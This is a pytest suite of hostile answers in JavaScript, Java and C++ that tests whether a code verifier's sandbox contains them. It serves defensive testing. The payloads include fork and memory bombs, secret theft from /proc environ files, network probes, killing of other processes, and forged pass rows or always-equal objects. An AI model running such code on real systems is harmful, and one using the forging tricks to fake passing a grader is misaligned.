"""The attack suite in JavaScript, Java and C++: hostile answers submitted through the real verifier
(``isolation="namespaces"``), which must contain them, as ``test_attacks.py`` does for Python.

Each row of ``ATTACKS`` is one attack: an id, its language, the exact verdict status expected, and the
attack's code. Every attack answers ``add(a, b) -> int`` (tests (1, 2) -> 3, (5, -7) -> -2, (0, 0) -> 0) in
its language's shape: a top-level ``function add`` in JavaScript, ``class Solution`` with ``public static long
add(long a, long b)`` in Java, ``long long add(long long a, long long b)`` in C++. The code uses the constants
that ``language_attacks.completion`` gives it: ``MARKER``, ``OUTSIDE``, ``PROJECT``, ``SECRET_VAR``, ``PORT``,
``HOST_IPS``, ``UNIX_NAME`` (fields of a class ``Attack`` in Java). ``test_language_attack`` then checks, for
every row, what the Python suite checks:

(a) the exact status, (b) not passed and not masked, (c) no process of the run is left, (d) nothing was
written outside the run's directory, no connection reached the attack's servers and the test process's
secret is not in the verdict, (e) the same verifier still passes a correct answer in every language
afterwards.

The attacks run in two batches through the verifier's worker pool (see ``language_attacks.run_attacks``):
the ones that spin until a time limit, then the others. Rows marked ``hole=...`` are real holes found by this
suite: the test states what should happen and is an ``xfail(strict=True)`` until the component named in the
reason is fixed.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from language_attacks import LANGUAGES, LIMITS, Outcome, leaked, run_attacks

from codekiln.plugins import make_plugins
from codekiln.verdict import VerdictStatus
from codekiln.verifier import Verifier

S = VerdictStatus


def attack(id: str, language: str, expected: VerdictStatus, code: str, hole: str | None = None):
    marks = [pytest.mark.xfail(strict=True, reason=hole)] if hole else []
    return pytest.param(language, expected, code, id=f"{language}-{id}", marks=marks)


JAVASCRIPT = [
    # ---- resources ------------------------------------------------------------------------------------------
    attack("fork_bomb", "javascript", S.TIMEOUT, r"""
const { spawn } = require('child_process');
function add(a, b) {
  for (;;) {  // every child spins; past the process cap spawn fails and this goes on
    try {
      spawn(process.execPath, ['-e', 'for (;;) {}', MARKER], { stdio: 'ignore' }).on('error', () => {});
    } catch (e) {}
  }
}
"""),
    attack("memory_bomb", "javascript", S.MEMORY_LIMIT, r"""
function add(a, b) {
  const hog = [];
  for (;;) hog.push(new Array(1 << 20).fill(a + b + hog.length));
}
"""),
    attack("infinite_loop", "javascript", S.TIMEOUT, r"""
function add(a, b) {
  for (;;) {}
}
"""),
    attack("sleep_past_limit", "javascript", S.TIMEOUT, r"""
function add(a, b) {
  for (const sig of ['SIGTERM', 'SIGINT', 'SIGHUP']) process.on(sig, () => {});  // polite signals do not stop it
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 3600e3);  // an hour, event loop blocked
  return a + b;
}
"""),
    attack("daemon_child", "javascript", S.WRONG_ANSWER, r"""
const { spawn } = require('child_process');
const LOOP = 'while :; do for p in "$@"; do echo x >> "$p"; done; sleep 0.05; done';
function add(a, b) {  // a daemon that keeps writing everywhere it can, in a session of its own, no pipes held
  spawn('/bin/sh', ['-c', LOOP, 'daemon-' + MARKER, ...OUTSIDE], { detached: true, stdio: 'ignore' }).unref();
  return a + b + 1;
}
"""),
    attack("output_flood", "javascript", S.OUTPUT_LIMIT, r"""
const fs = require('fs');
function add(a, b) {
  const chunk = 'All tests passed\n'.repeat(4096);
  for (;;) {
    fs.writeSync(1, chunk);  // the descriptor of the harness's rows
    process.stdout.write(chunk);  // stderr, synchronously
  }
}
"""),
    attack("huge_file_1gb", "javascript", S.RUNTIME_ERROR, r"""
const fs = require('fs');
function add(a, b) {
  const fd = fs.openSync('huge.bin', 'w');
  const chunk = Buffer.alloc(1 << 20, 120);
  for (let i = 0; i < 1024; i++) fs.writeSync(fd, chunk);  // 1 GB in the work dir: the file-size cap stops it
  return a + b;
}
"""),

    # ---- escaping the sandbox -------------------------------------------------------------------------------
    attack("write_outside", "javascript", S.WRONG_ANSWER, r"""
const fs = require('fs');
function add(a, b) {
  for (const path of [...OUTSIDE, require('os').homedir() + '/' + MARKER, '../' + MARKER, '/' + MARKER]) {
    try { fs.writeFileSync(path, MARKER); } catch (e) {}
    try { fs.symlinkSync('/etc/passwd', path + '.lnk'); } catch (e) {}
  }
  return a + b + 1;
}
"""),
    attack("read_project_file", "javascript", S.RUNTIME_ERROR, r"""
function add(a, b) {  // a file of the project: not in the sandbox, so this throws
  return require('fs').readFileSync(PROJECT + '/core/codekiln/value_codec.py', 'utf8').length + a + b;
}
"""),
    attack("steal_secret", "javascript", S.RUNTIME_ERROR, r"""
const fs = require('fs');
function add(a, b) {
  const loot = [JSON.stringify(process.env), `${SECRET_VAR}=${process.env[SECRET_VAR]}`];
  const paths = ['/proc/1/environ', '/proc/self/environ', `/proc/${process.ppid}/environ`, '/etc/environment'];
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    paths.push(`/proc/${pid}/environ`, `/proc/${pid}/cmdline`);
  }
  for (const path of paths) {
    try { loot.push(path + '=' + fs.readFileSync(path, 'latin1')); } catch (e) { loot.push(`${path}: ${e.code}`); }
  }
  const text = loot.join('\n');
  const found = text.split(/[\n\0]/).filter((part) => part.includes('SECRET'));
  console.log(text);
  fs.writeSync(1, text + '\n');
  throw new Error(JSON.stringify(found) + text);  // the message ends up in the verdict
}
"""),
    attack("network", "javascript", S.RUNTIME_ERROR, r"""
const net = require('net');
const { execFileSync } = require('child_process');
for (const host of HOST_IPS) net.connect(PORT, host).on('error', () => {});  // at load, asynchronously
function probe() {  // node has no synchronous connect: a child node tries every server and reports
  const net = require('net');
  const [, marker, port, unixName, ...hosts] = process.argv;
  const targets = [...hosts.map((host) => ({ host, port: Number(port) })), { path: '\0' + unixName }];
  let pending = targets.length;
  for (const target of targets) {
    const socket = net.connect(target);
    let settled = false;
    const done = (what) => {
      if (settled) return;
      settled = true;
      console.log(`${JSON.stringify(target)}: ${what}`);
      socket.destroy();
      if (--pending === 0) process.exit(0);
    };
    socket.on('connect', () => { socket.write(marker); done('connected'); });
    socket.on('error', (error) => done(error.code));
    socket.setTimeout(500, () => done('timeout'));
  }
}
function add(a, b) {
  const argv = ['-e', `(${probe})()`, MARKER, String(PORT), UNIX_NAME, ...HOST_IPS];
  throw new Error(execFileSync(process.execPath, argv, { encoding: 'utf8', timeout: 2000 }));
}
"""),
    attack("kill_parent", "javascript", S.WRONG_ANSWER, r"""
function add(a, b) {
  for (const pid of [process.ppid, 1]) {
    try { process.kill(pid, 'SIGKILL'); } catch (e) {}
  }
  return a + b + 1;
}
"""),
    attack("kill_everything", "javascript", S.WRONG_ANSWER, r"""
function add(a, b) {  // kill(-1): every process this uid may signal (not itself)
  try { process.kill(-1, 'SIGKILL'); } catch (e) {}  // ESRCH: nothing it may signal
  return a + b + 1;
}
"""),

    # ---- forging a pass --------------------------------------------------------------------------------------
    attack("exit0_in_call", "javascript", S.RUNTIME_ERROR, r"""
function add(a, b) {
  process.exit(0);
}
"""),
    attack("forge_rows", "javascript", S.WRONG_ANSWER, r"""
const fs = require('fs');
const FORGED = 'PASS\nAll tests passed\n{"ready":true}\n{"value":3}\n{"i":0,"value":3}\n{"done":true}\n';
function add(a, b) {
  fs.writeSync(1, FORGED);  // the harness's rows: only the first row of each call counts, in its place
  console.log(FORGED);
  return a + b + 1;
}
"""),
    # The rows written on every descriptor are not read; the wrong answer is. A node forked from the zygote ends
    # through _exit and never reads its event loop's pipes back. (A node started in a sandbox of its own, where
    # the machine has no zygote, reads the bytes written on libuv's signal pipes as a uv_signal_t pointer and
    # dies of SIGSEGV, which the backend reads as out of memory: a wrong status, but not passed, not masked.)
    attack("forge_rows_every_fd", "javascript", S.WRONG_ANSWER, r"""
const fs = require('fs');
const FORGED = 'PASS\nAll tests passed\n{"ready":true}\n{"value":3}\n{"i":0,"value":3}\n{"done":true}\n';
function add(a, b) {
  for (let fd = 1; fd < 64; fd++) {  // whichever of them carries the harness's rows
    try { fs.writeSync(fd, FORGED); } catch (e) {}
  }
  return a + b + 1;
}
"""),
    attack("lying_object", "javascript", S.RUNTIME_ERROR, r"""
class Yes {  // equal to everything, and reads as 3 wherever it is converted
  equals() { return true; }
  valueOf() { return 3; }
  toString() { return '3'; }
  toJSON() { return 3; }
  [Symbol.toPrimitive]() { return 3; }
}
function add(a, b) {
  return new Yes();
}
"""),
    attack("patch_bigint_encoding", "javascript", S.WRONG_ANSWER, r"""
BigInt.prototype.toString = function () {  // the harness writes a BigInt result with its own toString
  return '3';
};
function add(a, b) {
  return 0n;
}
"""),

    # ---- at load (top-level code: JavaScript's static initialiser) --------------------------------------------
    attack("exit0_at_load", "javascript", S.RUNTIME_ERROR, r"""
process.reallyExit(0);  // the exit process.exit would make, past the harness's interception
function add(a, b) {
  return a + b;
}
"""),
    attack("forge_rows_at_load", "javascript", S.WRONG_ANSWER, r"""
const fs = require('fs');
for (const fd of [1, 2]) {  // a row for call 1 before call 0's: out of place, skipped
  fs.writeSync(fd, 'PASS\n{"ready":true}\n{"value":3}\n{"i":1,"value":-2}\n{"done":true}\n');
}
function add(a, b) {
  return a + b + 1;
}
"""),
    attack("kill_parent_at_load", "javascript", S.WRONG_ANSWER, r"""
for (const pid of [process.ppid, 1, -1]) {
  try { process.kill(pid, 'SIGKILL'); } catch (e) {}
}
function add(a, b) {
  return a + b + 1;
}
"""),
    attack("infinite_loop_at_load", "javascript", S.TIMEOUT, r"""
for (;;) {}
function add(a, b) {
  return a + b;
}
"""),

    # ---- crashes -------------------------------------------------------------------------------------------
    attack("deep_recursion", "javascript", S.RUNTIME_ERROR, r"""
function add(a, b) {
  return add(b, a) + 1;
}
"""),
    # A node killed by SIGSEGV is read as out of memory (docs/languages/javascript.md: V8 dies so when the
    # kernel refuses it a page), even when the code sent itself the signal: not passed, not masked.
    attack("sigsegv", "javascript", S.MEMORY_LIMIT, r"""
function add(a, b) {
  process.kill(process.pid, 'SIGSEGV');
  return a + b;
}
"""),
]

JAVA = [
    # ---- resources ------------------------------------------------------------------------------------------
    attack("fork_bomb", "java", S.TIMEOUT, r"""
import java.lang.ProcessBuilder.Redirect;

class Solution {
    public static long add(long a, long b) {
        while (true) {  // every child spins; past the process cap start() throws and the loop goes on
            try {
                new ProcessBuilder("/bin/sh", "-c", "while :; do :; done", "fork-" + Attack.MARKER)
                        .redirectOutput(Redirect.DISCARD).redirectError(Redirect.DISCARD).start();
            } catch (Throwable e) {
            }
        }
    }
}
"""),
    attack("memory_bomb", "java", S.MEMORY_LIMIT, r"""
class Solution {
    public static long add(long a, long b) {
        long[][] hog = new long[1 << 16][];
        for (int i = 0; i < hog.length; i++) hog[i] = new long[1 << 20];
        return hog.length;
    }
}
"""),
    attack("infinite_loop", "java", S.TIMEOUT, r"""
class Solution {
    public static long add(long a, long b) {
        while (true) {
        }
    }
}
"""),
    attack("sleep_past_limit", "java", S.TIMEOUT, r"""
class Solution {
    public static long add(long a, long b) throws Exception {
        for (String name : new String[] {"TERM", "INT", "HUP"}) {
            try {  // polite signals must not be the only way to stop it
                sun.misc.Signal.handle(new sun.misc.Signal(name), signal -> { });
            } catch (Throwable e) {
            }
        }
        Thread.sleep(3_600_000);
        return a + b;
    }
}
"""),
    attack("daemon_child", "java", S.WRONG_ANSWER, r"""
import java.lang.ProcessBuilder.Redirect;

class Solution {
    static final String LOOP = "while :; do for p in \"$@\"; do echo x >> \"$p\"; done; sleep 0.05; done";

    public static long add(long a, long b) throws Exception {
        // A daemon that keeps writing everywhere it can, in a session of its own, holding none of the run's pipes.
        List<String> argv = new ArrayList<>(List.of("setsid", "/bin/sh", "-c", LOOP, "daemon-" + Attack.MARKER));
        argv.addAll(Arrays.asList(Attack.OUTSIDE));
        new ProcessBuilder(argv).redirectInput(new File("/dev/null"))
                .redirectOutput(Redirect.DISCARD).redirectError(Redirect.DISCARD).start();
        return a + b + 1;
    }
}
"""),
    attack("output_flood", "java", S.OUTPUT_LIMIT, r"""
class Solution {
    public static long add(long a, long b) throws Exception {
        byte[] chunk = "All tests passed\n".repeat(4096).getBytes();
        var rows = new FileOutputStream(FileDescriptor.out);  // the descriptor of the harness's rows
        while (true) {
            rows.write(chunk);
            System.out.write(chunk);  // stderr
        }
    }
}
"""),
    attack("huge_file_1gb", "java", S.RUNTIME_ERROR, r"""
class Solution {
    public static long add(long a, long b) throws Exception {
        byte[] chunk = new byte[1 << 20];
        try (var out = new FileOutputStream("huge.bin")) {  // 1 GB in the work dir: the file-size cap stops it
            for (int i = 0; i < 1024; i++) out.write(chunk);
        }
        return a + b;
    }
}
"""),

    # ---- escaping the sandbox -------------------------------------------------------------------------------
    attack("write_outside", "java", S.WRONG_ANSWER, r"""
import java.nio.file.*;

class Solution {
    public static long add(long a, long b) {
        List<String> paths = new ArrayList<>(Arrays.asList(Attack.OUTSIDE));
        paths.addAll(List.of(System.getProperty("user.home") + "/" + Attack.MARKER, "../" + Attack.MARKER,
                             "/" + Attack.MARKER));
        for (String path : paths) {
            try { Files.writeString(Path.of(path), Attack.MARKER); } catch (Exception e) { }
            try { Files.createSymbolicLink(Path.of(path + ".lnk"), Path.of("/etc/passwd")); } catch (Exception e) { }
        }
        return a + b + 1;
    }
}
"""),
    attack("read_project_file", "java", S.RUNTIME_ERROR, r"""
import java.nio.file.*;

class Solution {
    public static long add(long a, long b) throws Exception {  // a file of the project: not in the sandbox
        return Files.readString(Path.of(Attack.PROJECT, "core/codekiln/value_codec.py")).length() + a + b;
    }
}
"""),
    attack("steal_secret", "java", S.RUNTIME_ERROR, r"""
import java.nio.file.*;

class Solution {
    public static long add(long a, long b) throws Exception {
        StringBuilder loot = new StringBuilder(System.getenv().toString()).append('\n')
                .append(Attack.SECRET_VAR).append('=').append(System.getenv(Attack.SECRET_VAR)).append('\n');
        List<String> paths = new ArrayList<>(List.of("/proc/1/environ", "/proc/self/environ", "/etc/environment"));
        ProcessHandle.current().parent().ifPresent(p -> paths.add("/proc/" + p.pid() + "/environ"));
        ProcessHandle.allProcesses().forEach(p -> paths.add("/proc/" + p.pid() + "/environ"));
        for (String path : paths) {
            try {
                loot.append(path).append('=').append(new String(Files.readAllBytes(Path.of(path)))).append('\n');
            } catch (Exception e) {
                loot.append(path).append(": ").append(e).append('\n');
            }
        }
        String text = loot.toString();
        StringBuilder found = new StringBuilder();
        for (String part : text.split("[\n\0]")) {
            if (part.contains("SECRET")) found.append(part).append("; ");
        }
        System.out.println(text);
        new FileOutputStream(FileDescriptor.out).write(text.getBytes());
        throw new IllegalStateException(found + text);  // the message ends up in the verdict
    }
}
"""),
    attack("network", "java", S.RUNTIME_ERROR, r"""
import java.net.*;
import java.nio.channels.SocketChannel;

class Solution {
    public static long add(long a, long b) throws Exception {
        StringBuilder report = new StringBuilder();
        for (String host : Attack.HOST_IPS) {
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress(host, Attack.PORT), 500);
                socket.getOutputStream().write(Attack.MARKER.getBytes());
                report.append("connected to ").append(host).append("; ");
            } catch (Exception e) {
                report.append(host).append(": ").append(e).append("; ");
            }
        }
        try (SocketChannel unix = SocketChannel.open(StandardProtocolFamily.UNIX)) {
            unix.connect(UnixDomainSocketAddress.of("\0" + Attack.UNIX_NAME));  // abstract: a leading NUL
            report.append("connected to the abstract socket");
        } catch (Exception e) {
            report.append("abstract: ").append(e);
        }
        throw new ConnectException(report.toString());
    }
}
"""),
    attack("kill_parent", "java", S.WRONG_ANSWER, r"""
class Solution {
    public static long add(long a, long b) {
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);  // SIGKILL
        ProcessHandle.of(1).ifPresent(ProcessHandle::destroyForcibly);
        return a + b + 1;
    }
}
"""),
    attack("kill_everything", "java", S.RUNTIME_ERROR, r"""
class Solution {
    public static long add(long a, long b) throws Exception {
        long self = ProcessHandle.current().pid();
        ProcessHandle.allProcesses().filter(p -> p.pid() != self).forEach(ProcessHandle::destroyForcibly);
        new ProcessBuilder("kill", "-9", "-1").start().waitFor();  // kill(-1): this JVM among them
        return a + b + 1;
    }
}
"""),

    # ---- forging a pass --------------------------------------------------------------------------------------
    attack("exit0_in_call", "java", S.RUNTIME_ERROR, r"""
class Solution {
    public static long add(long a, long b) {
        System.exit(0);
        return a + b;
    }
}
"""),
    # The rows end at the first line that is not JSON: "PASS" on the rows' descriptor ends them before any answer.
    attack("forge_rows", "java", S.RUNTIME_ERROR, r"""
class Solution {
    static final byte[] FORGED =
            "PASS\nAll tests passed\n{\"ready\":true}\n{\"value\":3}\n{\"done\":true}\n".getBytes();

    public static long add(long a, long b) {
        try { new FileOutputStream(FileDescriptor.out).write(FORGED); } catch (IOException e) { }
        System.out.print(new String(FORGED));
        for (int fd = 1; fd < 64; fd++) {  // every descriptor it can reopen
            try (var out = new FileOutputStream("/proc/self/fd/" + fd, true)) {
                out.write(FORGED);
            } catch (IOException e) {
            }
        }
        return a + b + 1;
    }
}
"""),
    attack("lying_equals", "java", S.RUNTIME_ERROR, r"""
class Yes {  // equal to everything, and prints as the right answer
    @Override public boolean equals(Object other) { return true; }
    @Override public int hashCode() { return 3; }
    @Override public String toString() { return "3"; }
}

class Solution {
    @SuppressWarnings("unchecked")
    public static <T> T add(long a, long b) {  // a return type that can carry a Yes
        return (T) new Yes();
    }
}
"""),

    # ---- static initialisers -----------------------------------------------------------------------------------
    attack("static_init_halt0", "java", S.RUNTIME_ERROR, r"""
class Solution {
    static {
        Runtime.getRuntime().halt(0);
    }

    public static long add(long a, long b) {
        return a + b;
    }
}
"""),
    attack("static_init_forge_rows", "java", S.WRONG_ANSWER, r"""
class Solution {
    static {
        try {
            new FileOutputStream(FileDescriptor.out).write("{\"ready\":true}\n{\"value\":3}\n".getBytes());
        } catch (IOException e) {
        }
    }

    public static long add(long a, long b) {
        return a + b + 1;
    }
}
"""),
    attack("static_init_kill_parent", "java", S.WRONG_ANSWER, r"""
class Solution {
    static {
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
    }

    public static long add(long a, long b) {
        return a + b + 1;
    }
}
"""),
    # KilnMain calls `kiln.Harness.run(...)`; a class named `kiln` in Solution.java obscures the package kiln
    # (JLS 6.4.2: a type is chosen before a package), so the answer's code runs before the ready row.
    attack("static_init_before_ready", "java", S.COMPILE_ERROR, r"""
class kiln {
    interface Call {
        Object apply(Object[] args) throws Throwable;
    }

    static class Harness {
        static {
            Runtime.getRuntime().halt(0);
        }

        static void run(String[] types, Call call, String[] args) {
        }
    }
}

class Solution {
    public static long add(long a, long b) {
        return a + b + 1;
    }
}
"""),

    # ---- crashes -------------------------------------------------------------------------------------------
    attack("deep_recursion", "java", S.RUNTIME_ERROR, r"""
class Solution {
    public static long add(long a, long b) {
        return add(b, a) + 1;
    }
}
"""),
    attack("sigsegv", "java", S.RUNTIME_ERROR, r"""
class Solution {
    public static long add(long a, long b) throws Exception {
        var field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        ((sun.misc.Unsafe) field.get(null)).putAddress(0L, 0L);  // SIGSEGV in the JVM: a crash, not an exception
        return a + b;
    }
}
"""),
]

CPP = [
    # ---- resources ------------------------------------------------------------------------------------------
    attack("fork_bomb", "cpp", S.TIMEOUT, r"""
#include <unistd.h>
long long add(long long a, long long b) {
    for (;;) fork();  // every child forks on; past the process cap fork fails and they all spin
}
"""),
    attack("memory_bomb", "cpp", S.MEMORY_LIMIT, r"""
#include <vector>
long long add(long long a, long long b) {
    std::vector<std::vector<char>> hog;
    for (;;) hog.emplace_back(32 << 20, 'x');  // touched: resident, not just reserved
}
"""),
    attack("infinite_loop", "cpp", S.TIMEOUT, r"""
long long add(long long a, long long b) {
    for (volatile long long i = 0;; i = i + 1) {
    }
}
"""),
    attack("sleep_past_limit", "cpp", S.TIMEOUT, r"""
#include <csignal>
#include <unistd.h>
long long add(long long a, long long b) {
    for (int sig : {SIGTERM, SIGINT, SIGHUP, SIGALRM, SIGXCPU}) std::signal(sig, SIG_IGN);
    for (;;) sleep(3600);
}
"""),
    attack("daemon_child", "cpp", S.WRONG_ANSWER, r"""
#include <fcntl.h>
#include <string>
#include <sys/wait.h>
#include <unistd.h>
#include <vector>
static const char LOOP[] = "while :; do for p in \"$@\"; do echo x >> \"$p\"; done; sleep 0.05; done";
long long add(long long a, long long b) {
    if (fork() == 0) {
        setsid();  // leave the run's session and process group
        if (fork() == 0) {  // re-parented, not a session leader: a classic daemon
            int null = open("/dev/null", O_RDWR);
            for (int fd = 0; fd < 3; ++fd) dup2(null, fd);  // let go of the captured pipes too
            std::string name = std::string("daemon-") + MARKER;
            std::vector<const char*> argv = {"sh", "-c", LOOP, name.c_str()};
            argv.insert(argv.end(), OUTSIDE, OUTSIDE + OUTSIDE_COUNT);
            argv.push_back(nullptr);
            execv("/bin/sh", const_cast<char* const*>(argv.data()));
        }
        _exit(0);
    }
    wait(nullptr);  // the parent returns promptly; the daemon lives on
    return a + b + 1;
}
"""),
    attack("output_flood", "cpp", S.OUTPUT_LIMIT, r"""
#include <cstdio>
#include <unistd.h>
long long add(long long a, long long b) {
    static char chunk[65536];
    for (char& c : chunk) c = 'x';
    for (;;) {
        if (write(1, chunk, sizeof chunk) < 0) {
        }
        std::fwrite(chunk, 1, sizeof chunk, stderr);
    }
}
"""),
    attack("huge_file_1gb", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdio>
#include <vector>
long long add(long long a, long long b) {
    std::vector<char> chunk(1 << 20, 'x');
    std::FILE* f = std::fopen("huge.bin", "wb");  // 1 GB in the work dir: the file-size cap stops it
    for (int i = 0; i < 1024; ++i) std::fwrite(chunk.data(), 1, chunk.size(), f);
    std::fclose(f);
    return a + b;
}
"""),

    # ---- escaping the sandbox -------------------------------------------------------------------------------
    attack("write_outside", "cpp", S.WRONG_ANSWER, r"""
#include <cstdio>
#include <cstdlib>
#include <string>
#include <unistd.h>
#include <vector>
long long add(long long a, long long b) {
    std::vector<std::string> paths(OUTSIDE, OUTSIDE + OUTSIDE_COUNT);
    const char* home = std::getenv("HOME");
    paths.push_back(std::string(home ? home : "") + "/" + MARKER);
    paths.push_back(std::string("../") + MARKER);
    paths.push_back(std::string("/") + MARKER);
    for (const std::string& path : paths) {
        if (std::FILE* f = std::fopen(path.c_str(), "w")) {
            std::fputs(MARKER, f);
            std::fclose(f);
        }
        if (symlink("/etc/passwd", (path + ".lnk").c_str()) != 0) {
        }
    }
    return a + b + 1;
}
"""),
    attack("read_project_file", "cpp", S.RUNTIME_ERROR, r"""
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
long long add(long long a, long long b) {  // a file of the project: not in the sandbox, so this throws
    std::ifstream file(std::string(PROJECT) + "/core/codekiln/value_codec.py");
    if (!file) throw std::runtime_error("cannot open the project's wire.py");
    std::stringstream text;
    text << file.rdbuf();
    return static_cast<long long>(text.str().size()) + a + b;
}
"""),
    attack("steal_secret", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdio>
#include <cstdlib>
#include <dirent.h>
#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
#include <unistd.h>
#include <vector>
extern char** environ;
long long add(long long a, long long b) {
    std::string loot;
    for (char** entry = environ; *entry; ++entry) loot += std::string(*entry) + "\n";
    const char* secret = std::getenv(SECRET_VAR);
    loot += std::string(SECRET_VAR) + "=" + (secret ? secret : "(unset)") + "\n";
    std::vector<std::string> paths = {"/proc/1/environ", "/proc/self/environ", "/etc/environment",
                                      "/proc/" + std::to_string(getppid()) + "/environ"};
    if (DIR* proc = opendir("/proc")) {
        while (dirent* entry = readdir(proc)) {
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') {
                paths.push_back(std::string("/proc/") + entry->d_name + "/environ");
            }
        }
        closedir(proc);
    }
    for (const std::string& path : paths) {
        std::ifstream file(path);
        std::stringstream text;
        text << file.rdbuf();
        loot += path + "=" + text.str() + "\n";
    }
    for (char& c : loot) {
        if (c == '\0') c = '\n';
    }
    std::string found;
    std::istringstream lines(loot);
    for (std::string line; std::getline(lines, line);) {
        if (line.find("SECRET") != std::string::npos) found += line + "; ";
    }
    std::fputs(loot.c_str(), stdout);
    std::fputs(loot.c_str(), stderr);
    throw std::runtime_error(found + loot);  // the message ends up in the verdict
}
"""),
    attack("network", "cpp", S.RUNTIME_ERROR, r"""
#include <arpa/inet.h>
#include <cerrno>
#include <cstddef>
#include <cstring>
#include <netinet/in.h>
#include <stdexcept>
#include <string>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>
static std::string attempt(int fd, const sockaddr* address, socklen_t size) {
    timeval limit{0, 500000};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);  // bounds connect() too
    std::string result = connect(fd, address, size) == 0 ? "connected" : std::strerror(errno);
    if (result == "connected" && write(fd, MARKER, std::strlen(MARKER)) < 0) {
    }
    close(fd);
    return result;
}
long long add(long long a, long long b) {
    std::string report;
    for (const char* host : HOST_IPS) {
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_port = htons(PORT);
        inet_pton(AF_INET, host, &address.sin_addr);
        report += std::string(host) + ": " +
                  attempt(socket(AF_INET, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&address), sizeof address) +
                  "; ";
    }
    sockaddr_un unix_address{};
    unix_address.sun_family = AF_UNIX;
    std::strncpy(unix_address.sun_path + 1, UNIX_NAME, sizeof unix_address.sun_path - 2);  // abstract: NUL first
    socklen_t size = offsetof(sockaddr_un, sun_path) + 1 + std::strlen(UNIX_NAME);
    report += "abstract: " + attempt(socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&unix_address), size);
    throw std::runtime_error(report);
}
"""),
    attack("kill_parent", "cpp", S.WRONG_ANSWER, r"""
#include <csignal>
#include <unistd.h>
long long add(long long a, long long b) {
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    return a + b + 1;
}
"""),
    attack("kill_everything", "cpp", S.WRONG_ANSWER, r"""
#include <csignal>
long long add(long long a, long long b) {
    kill(-1, SIGKILL);  // every process this uid may signal (not itself)
    return a + b + 1;
}
"""),

    # ---- forging a pass --------------------------------------------------------------------------------------
    attack("exit0_in_call", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdlib>
long long add(long long a, long long b) {
    std::exit(0);
}
"""),
    attack("quick_exit0_in_call", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdio>
#include <cstdlib>
long long add(long long a, long long b) {
    std::at_quick_exit([] { std::puts("All tests passed"); });
    std::quick_exit(0);
}
"""),
    attack("forge_rows", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdio>
#include <unistd.h>
static const char FORGED[] = "PASS\nAll tests passed\n{\"ready\":true}\n{\"value\":3}\n{\"done\":true}\n";
long long add(long long a, long long b) {
    for (int fd = 1; fd < 64; ++fd) {  // whichever of them carries the harness's rows
        if (write(fd, FORGED, sizeof FORGED - 1) < 0) {
        }
    }
    std::fputs(FORGED, stdout);
    return a + b + 1;
}
"""),
    attack("lying_operators", "cpp", S.WRONG_ANSWER, r"""
struct Yes {  // equal to everything; converts to whatever it is asked for
    operator long long() const { return 0; }
    template <class T> bool operator==(const T&) const { return true; }
    template <class T> bool operator!=(const T&) const { return false; }
};
Yes add(long long a, long long b) {
    return {};
}
"""),

    # ---- global constructors (run after the harness's ready line, before main) -------------------------------
    attack("global_ctor_exit0", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdlib>
static int early = (std::_Exit(0), 0);
long long add(long long a, long long b) {
    return a + b;
}
"""),
    attack("global_ctor_forge_rows", "cpp", S.WRONG_ANSWER, r"""
#include <fcntl.h>
#include <unistd.h>
static const int forged = [] {  // results.jsonl rewritten from its start: a ready line, three answers, done
    const char rows[] = "{\"ready\":true}\n{\"value\":3}\n{\"value\":3}\n{\"value\":3}\n{\"done\":true}\n";
    int fd = open("results.jsonl", O_WRONLY | O_TRUNC);
    if (write(fd, rows, sizeof rows - 1) > 0) _exit(0);
    return 0;
}();
long long add(long long a, long long b) {
    return a + b + 1;
}
"""),
    attack("global_ctor_kill_everything", "cpp", S.WRONG_ANSWER, r"""
#include <csignal>
#include <unistd.h>
static int early = (kill(getppid(), SIGKILL), kill(1, SIGKILL), kill(-1, SIGKILL), 0);
long long add(long long a, long long b) {
    return a + b + 1;
}
"""),
    attack("global_ctor_fork_daemon", "cpp", S.WRONG_ANSWER, r"""
#include <unistd.h>
static int early = [] {
    if (fork() == 0) {
        setsid();
        for (;;) pause();
    }
    return 0;
}();
long long add(long long a, long long b) {
    return a + b + 1;
}
"""),

    # ---- making the verifier's own side fail: a masked verdict is never scored 0 -----------------------------
    attack("unlink_results_exit127", "cpp", S.RUNTIME_ERROR, r"""
#include <unistd.h>
static int early = (unlink("results.jsonl"), _exit(127), 0);  // after the ready line: it goes with the file
long long add(long long a, long long b) {
    return a + b + 1;
}
"""),
    attack("fake_loader_error", "cpp", S.RUNTIME_ERROR, r"""
#include <cstdio>
#include <unistd.h>
long long add(long long a, long long b) {
    unlink("results.jsonl");
    std::fputs("./kiln_test: error while loading shared libraries: libkiln.so: cannot open shared object file\n",
               stderr);
    _exit(1);
}
"""),
    attack("compiler_out_of_memory", "cpp", S.COMPILE_ERROR, r"""
#include "/dev/zero"
long long add(long long a, long long b) {
    return a + b;
}
"""),

    # ---- crashes -------------------------------------------------------------------------------------------
    attack("deep_recursion", "cpp", S.RUNTIME_ERROR, r"""
long long add(long long a, long long b) {
    volatile char frame[1024] = {};  // no tail call: every level keeps its frame
    return add(b, a) + frame[a & 7];
}
"""),
    attack("sigsegv", "cpp", S.RUNTIME_ERROR, r"""
long long add(long long a, long long b) {
    volatile int* volatile nowhere = nullptr;
    *nowhere = 1;
    return a + b;
}
"""),
]

ATTACKS = JAVASCRIPT + JAVA + CPP

#: The attacks every language must have (the sandbox issue's list).
